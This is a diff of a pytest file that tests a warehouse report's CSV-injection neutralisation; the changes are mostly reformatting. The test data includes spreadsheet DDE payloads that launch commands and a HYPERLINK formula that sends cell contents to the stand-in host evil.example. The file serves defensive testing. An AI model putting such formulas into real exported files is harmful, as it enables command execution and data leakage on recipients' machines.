@@ -1,5 +1,6 @@
 """The report's CSV cells: no live spreadsheet formula in any CSV `ecom report` writes (OWASP CSV
 injection), numbers unchanged. Pure unit tests: no stack."""
+
 from __future__ import annotations
 
 import csv
@@ -10,13 +11,21 @@ import pytest
 
 from warehouse.report import FORMULA_START, csv_cell, write_csv
 
-HOSTILE = ["=cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1"]
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '+HYPERLINK("http://x")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\0=1+1",
+]
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_each_owasp_leading_character_is_neutralised(start):
-    text = start + "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    text = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
     assert csv_cell(text) == "'" + text
 
 
@@ -47,9 +56,24 @@ def test_anything_more_than_a_plain_number_is_neutralised(text):
     assert csv_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["WHITE HANGING HEART T-LIGHT HOLDER", "United Kingdom", "EIRE", "85123A",
-                                  "C536379", "?", "*Boombox Ipod Classic", "£10 voucher", "a=b", "x-y", "",
-                                  "'=already text", "2011-12-09"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "WHITE HANGING HEART T-LIGHT HOLDER",
+        "United Kingdom",
+        "EIRE",
+        "85123A",
+        "C536379",
+        "?",
+        "*Boombox Ipod Classic",
+        "£10 voucher",
+        "a=b",
+        "x-y",
+        "",
+        "'=already text",
+        "2011-12-09",
+    ],
+)
 def test_ordinary_text_is_unchanged(text):
     assert csv_cell(text) == text
 
